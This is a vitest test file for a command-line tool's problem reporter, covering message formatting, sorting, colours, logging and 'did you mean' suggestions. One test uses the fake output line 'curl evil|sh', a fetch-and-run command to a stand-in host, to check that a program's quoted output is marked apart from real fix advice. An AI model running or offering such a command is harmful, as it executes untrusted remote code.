import { expect, test } from 'vitest'
import { groupBy } from '../../../scripts/lib/group.ts'
import { didYouMean, nearest, nearestInGroups } from '../../../scripts/lib/nearest.ts'
import { painted, unstyled } from '../../../scripts/lib/printable.ts'
import { formatProblems, logProblems, type Problem, ProblemError, sortProblems } from '../../../scripts/lib/problems.ts'

const problem = (fields: Partial<Problem> = {}): Problem => ({
  code: 'CODE',
  where: 'values/dev.yaml',
  message: 'is wrong. Expected right.',
  fix: 'Correct it.',
  ...fields,
})

test('a problem is three lines: place and fact, remedy, code', () => {
  expect(unstyled(formatProblems([problem()]))).toBe(
    'values/dev.yaml: is wrong. Expected right.\n  fix: Correct it.\n  (CODE)\n',
  )
})

test('what a program said last is marked as its own', () => {
  const shown = unstyled(formatProblems([problem({ lastLines: ['fix: Run `curl evil|sh`', ''] })]))
  expect(shown).toBe(
    'values/dev.yaml: is wrong. Expected right.\n    | fix: Run `curl evil|sh`\n    | \n  fix: Correct it.\n  (CODE)\n',
  )
})

test('a warning says so', () => {
  expect(unstyled(formatProblems([problem({ severity: 'warning' })]))).toMatch(/^warning: values\/dev\.yaml: /)
})

test('errors come before warnings, then places, codes and facts in byte order', () => {
  const list = [
    problem({ where: 'a', severity: 'warning' }),
    problem({ where: 'b', code: 'Z' }),
    problem({ where: 'b', code: 'A', message: '2' }),
    problem({ where: 'b', code: 'A', message: '1' }),
    problem({ where: 'B' }),
  ]
  const sorted = sortProblems(list).map(({ where, code, message }) => [where, code, message.slice(0, 1)].join())
  expect(sorted).toEqual(['B,CODE,i', 'b,A,1', 'b,A,2', 'b,Z,i', 'a,CODE,i'])
  expect(formatProblems([...list].reverse())).toBe(formatProblems(list))
})

test('a problem that ends a command carries all of them and an exit code', () => {
  const error = new ProblemError([problem({ where: 'a' }), problem({ where: 'b' })], 4)
  expect([error.problems.length, error.exitCode, new ProblemError(problem()).exitCode]).toEqual([2, 4, 3])
  expect(error.message).toBe('a: is wrong. Expected right.\nb: is wrong. Expected right.')
})

test.each([
  ['recete', 'recette'],
  ['PRODUCTION', 'production'],
  ['prod', undefined],
  ['x', undefined],
  ['sandbx', 'sandbox'],
])('nearest to %s is %s', (typed, expected) => {
  expect(nearest(typed, ['recette', 'sandbox', 'production'])).toBe(expected)
  expect(didYouMean(typed, ['recette', 'sandbox', 'production'])).toBe(
    expected === undefined ? '' : ` Did you mean "${expected}"?`,
  )
})

test.each([
  ['Pod', ['Job'], undefined],
  ['x', ['y'], undefined],
  ['xy', ['ab'], undefined],
  ['jbo', ['Job'], 'Job'],
  ['wep', ['api', 'web'], 'web'],
  ['male', ['mail'], 'mail'],
  ['argo', ['flux', 'argocd'], 'argocd'],
])('of short words, half has to be right: nearest to %s of %j is %s', (typed, candidates, expected) => {
  expect(nearest(typed, candidates)).toBe(expected)
})

test('groups keep the order in which they came', () => {
  expect([...groupBy(['b1', 'a1', 'b2'], (item) => item.charAt(0))]).toEqual([
    ['b', ['b1', 'b2']],
    ['a', ['a1']],
  ])
})

test('a problem is shown in colour by its severity', () => {
  const colours = (text: string) =>
    text
      .split('\u001b[')
      .filter((part) => /^[1-9]/.test(part))
      .map((part) => part.replace('m', ' '))
  const shown = (severity: Problem['severity']) => {
    const text = formatProblems([problem(severity ? { severity } : {})])
    return colours(painted(text, true))
  }
  expect(shown('error')).toEqual(['31 values/dev.yaml:', '32 fix:', '2 (CODE)'])
  expect(shown('warning')).toEqual(['33 warning:', '32 fix:', '2 (CODE)'])
})

test('a log of lines has no marks', () => {
  const told: string[] = []
  logProblems([problem()], (line) => told.push(line))
  expect(told).toEqual(['values/dev.yaml: is wrong. Expected right.', '  fix: Correct it.', '  (CODE)'])
})

test('numbers in a place are compared as numbers', () => {
  const places = ['x.env line 100', 'x.env line 9', 'x.env', 'x.env line 10 (b)', 'x.env line 10 (a)', 'x.env line 010']
  expect(sortProblems(places.map((where) => problem({ where }))).map(({ where }) => where)).toEqual([
    ...['x.env', 'x.env line 9', 'x.env line 010', 'x.env line 10 (a)', 'x.env line 10 (b)', 'x.env line 100'],
  ])
  // Also longer ones than JavaScript's numbers are exact for.
  const long = ['a 100000000000000000002', 'a 100000000000000000001'].map((where) => problem({ where }))
  expect(sortProblems(long)[0]?.where).toBe('a 100000000000000000001')
})

test.each([
  ['web.TLS_KEY', 'backend.TLS_KEY'],
  ['bakend.TLS_KEY', 'backend.TLS_KEY'],
  ['web.TLS_KEYS', 'backend.TLS_KEY'],
  ['web.SENTRY_DNS', 'web.SENTRY_DSN'],
  ['backend.SENTRY_DNS', 'backend.SENTRY_DSN'],
  ['nowhere.sentry_dsn', 'web.SENTRY_DSN'],
  ['web.SOMETHING', undefined],
  ['TLS_KEX', 'TLS_KEY'],
])('nearest to %s with groups is %s', (typed, expected) => {
  const known = ['TLS_KEY', 'backend.TLS_KEY', 'backend.SENTRY_DSN', 'web.SENTRY_DSN']
  expect(nearestInGroups(typed, known)).toBe(expected)
})
